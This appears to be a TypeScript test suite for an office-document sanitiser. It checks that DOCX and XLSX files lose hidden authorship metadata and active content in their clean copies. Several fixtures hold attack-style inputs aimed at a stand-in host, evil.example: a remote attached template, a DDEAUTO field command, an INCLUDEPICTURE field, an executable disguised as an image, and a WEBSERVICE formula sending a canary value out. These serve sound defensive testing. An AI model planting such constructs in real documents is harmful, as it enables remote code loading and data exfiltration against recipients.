import type { WarningCode } from '../../src/evidence/warning-codes.ts';
import { cleanText, found, partsOf, words } from './office-copies.ts';
import {
  docxOf,
  docxWith,
  excelPart,
  pictureIn,
  relation,
  relations,
  wordPart,
  xlsxWith,
} from './planted-documents.ts';
import { canary, holdsCanary, picture, plantedJpeg } from './planted-photos.ts';

const core = `<c:coreProperties xmlns:c="c" xmlns:d="d"><d:creator>${canary}</d:creator></c:coreProperties>`;
const inWord = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

describe('what a DOCX tells is left out of its clean copy and named in the warnings', () => {
  test.each<[string, WarningCode, () => Promise<Buffer>]>([
    ['properties in another place', 'author', () => docxWith({ 'package/services/abc.psmdcp': core })],
    ['properties in small letters', 'author', () => docxWith({ 'docprops/core.xml': core })],
    ['the path of a photo', 'otherData', () => docxOf(`<w:p>${pictureIn('i', `C:\\${canary}.jpg`)}</w:p>`)],
    [
      'the source of a letter to many',
      'otherData',
      () =>
        docxOf(words, [relation('settings', 'settings.xml')], {
          'word/settings.xml': wordPart(
            'settings',
            `<w:mailMerge><w:connectString w:val="C:\\${canary}"/></w:mailMerge>`,
          ),
        }),
    ],
    [
      'building blocks',
      'author',
      () =>
        docxOf(words, [relation('glossaryDocument', 'glossary/document.xml')], {
          'word/glossary/document.xml': wordPart('glossaryDocument', `<w:ins w:author="${canary}"/>`),
        }),
    ],
    [
      'names under another prefix',
      'author',
      () =>
        docxWith({
          'word/document.xml': `<x:document xmlns:x="${inWord}"><x:body><x:p><x:ins x:author="${canary}"/></x:p></x:body></x:document>`,
        }),
    ],
    [
      'names in single quotes',
      'author',
      () =>
        docxOf(words, [relation('comments', 'comments.xml')], {
          'word/comments.xml': wordPart(
            'comments',
            `<w:comment w:author='${canary}' w:initials='${canary}'/>`,
          ),
        }),
    ],
    [
      'a label of the company',
      'otherData',
      () => docxWith({ 'docMetadata/LabelInfo.xml': `<l id="${canary}"/>` }),
    ],
    [
      'whom it was shared with',
      'author',
      () => docxWith({ 'customXml/item2.xml': `<p><DisplayName>${canary}</DisplayName></p>` }),
    ],
    [
      'a second of a change',
      'created',
      () => docxOf(`<w:p><w:ins w:author="Author" w:date="${canary}"/></w:p>`),
    ],
    ['who may edit', 'author', () => docxOf(`<w:p><w:permStart w:id="1" w:ed="${canary}"/></w:p>`)],
    ['words where nobody sees them', 'otherData', () => docxOf(`<w:p>${canary}</w:p>`)],
    [
      'a link into a folder',
      'links',
      () => docxOf(words, [relation('hyperlink', `file:///C:/${canary}/a.xls`)]),
    ],
    ['a link that no words use', 'links', () => docxOf(words, [relation('hyperlink', `https://${canary}/`)])],
    ['an attribute called like a function', 'otherData', () => docxOf(`<w:p constructor="${canary}"/>`)],
  ])('%s', async (_, code, make) => {
    const document = await make();
    expect(await found(document, 'docx')).toContain(code);
    expect(await cleanText(document, 'docx')).not.toContain(canary);
  });

  test('a photo of another format is painted anew, and one that cannot be becomes a grey field', async () => {
    const gif = await picture().gif().toBuffer();
    const told = Buffer.concat([
      gif.subarray(0, 13),
      Buffer.from(`!\xfe\x06${canary.slice(0, 6)}\0`, 'latin1'),
      gif.subarray(13),
    ]);
    const parts = await partsOf(
      await docxOf(
        `<w:p>${['g', 't', 'j'].map((id) => pictureIn(id)).join('')}</w:p>`,
        [
          relation('image', 'media/a.gif', 'g'),
          relation('image', 'media/b.tiff', 't'),
          relation('image', `media/${canary}.jpeg`, 'j'),
        ],
        {
          'word/media/a.gif': told,
          'word/media/b.tiff': Buffer.from(`II*\0${canary}`),
          [`word/media/${canary}.jpeg`]: await plantedJpeg(),
        },
      ),
      'docx',
    );
    const pictures = [...parts.keys()].filter((name) => name.includes('media'));
    expect(pictures.map((name) => name.replace(/\d+/, ''))).toEqual([
      'word/media/image.png',
      'word/media/image.png',
      'word/media/image.jpeg',
    ]);
    for (const [name, part] of parts)
      expect(holdsCanary(Buffer.concat([Buffer.from(name), part]))).toBe(false);
  });
});

describe('what a document loads, runs or hides stays behind', () => {
  const server = 'http://evil.example/x';
  const program = Buffer.from('MZ\x90\0');

  test.each<[string, WarningCode, () => Promise<Buffer>]>([
    [
      'a template from elsewhere',
      'remote',
      () =>
        docxOf(words, [relation('settings', 'settings.xml')], {
          'word/settings.xml': wordPart('settings', "<w:attachedTemplate r:id='t'/>"),
          'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', server, 't')).replaceAll(
            '"',
            "'",
          ),
        }),
    ],
    [
      'a template of a part that nothing points to',
      'remote',
      () => docxWith({ 'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', server)) }),
    ],
    [
      'a photo from elsewhere',
      'remote',
      () => docxOf(`<w:p>${pictureIn('i')}</w:p>`, [relation('image', server, 'i')]),
    ],
    ['an object from elsewhere', 'remote', () => docxOf(words, [relation('oleObject', server)])],
    [
      'a command in a field',
      'javascript',
      () => docxOf('<w:p><w:r><w:instrText>DDEAUTO evil.example</w:instrText></w:r></w:p>'),
    ],
    [
      'a command in a field, in two pieces',
      'javascript',
      () =>
        docxOf(
          '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E evil.example</w:instrText></w:r></w:p>',
        ),
    ],
    [
      'a photo loaded by a field',
      'remote',
      () =>
        docxOf(
          '<w:p><w:fldSimple w:instr="INCLUDEPICTURE evil.example"><w:r><w:t>kept</w:t></w:r></w:fldSimple></w:p>',
        ),
    ],
    [
      'a program that calls itself a photo',
      'embeddedFiles',
      () =>
        docxOf(`<w:p>${pictureIn('i')}</w:p>`, [relation('image', 'media/image1.png', 'i')], {
          'word/media/image1.png': program,
        }),
    ],
    [
      'a program or a document with macros within',
      'embeddedFiles',
      () =>
        docxOf(
          words,
          [relation('package', 'embeddings/a.docm'), relation('oleObject', 'embeddings/b.bin', 'b')],
          {
            'word/embeddings/a.docm': program,
            'word/embeddings/b.bin': program,
          },
        ),
    ],
    [
      'a page that is put into the text',
      'embeddedFiles',
      () =>
        docxOf(`<w:altChunk r:id="p"/>${words}`, [relation('aFChunk', 'afchunk.htm', 'p')], {
          'word/afchunk.htm': '<html>evil.example',
        }),
    ],
  ])('%s', async (_, code, make) => {
    const document = await make();
    expect(await found(document, 'docx')).toContain(code);
    const text = await cleanText(document, 'docx');
    expect(text).not.toMatch(/evil|MZ\x90|External|instrText|altChunk/);
    expect(await found(document, 'docx')).not.toEqual([]);
  });

  test('a workbook keeps what its formulas came to, and neither them nor what they ask', async () => {
    const sheet = excelPart(
      'worksheet',
      `<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example/${canary}")</f><v>42</v></c></row></sheetData>`,
    );
    const workbook = await xlsxWith({
      'xl/worksheets/sheet1.xml': sheet,
      'xl/connections.xml': `<connections><connection connection="User ID=${canary}"/></connections>`,
      'xl/externalLinks/externalLink1.xml': `<externalLink><ddeLink ddeService="${canary}"/></externalLink>`,
    });
    expect(await found(workbook, 'xlsx')).toEqual(['javascript', 'remote', 'otherData']);
    const text = await cleanText(workbook, 'xlsx');
    expect(text).toContain('<v>42</v>');
    expect(text).not.toMatch(new RegExp(`evil|${canary}|connection|ddeLink`));
  });
});
